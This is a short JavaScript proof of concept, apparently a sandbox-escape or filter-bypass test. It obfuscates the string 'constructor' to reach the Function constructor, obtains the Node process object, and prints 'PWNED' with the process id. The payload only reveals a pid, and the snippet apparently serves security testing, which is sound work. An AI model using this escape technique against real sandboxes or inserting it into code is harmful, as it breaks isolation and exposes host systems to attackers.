'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const e = new Error('');
const o = { name: w };
for (const k of Object.keys(o)) e[k] = o[k];
console.log('PWNED', fn[String(e)]('return process')().pid);
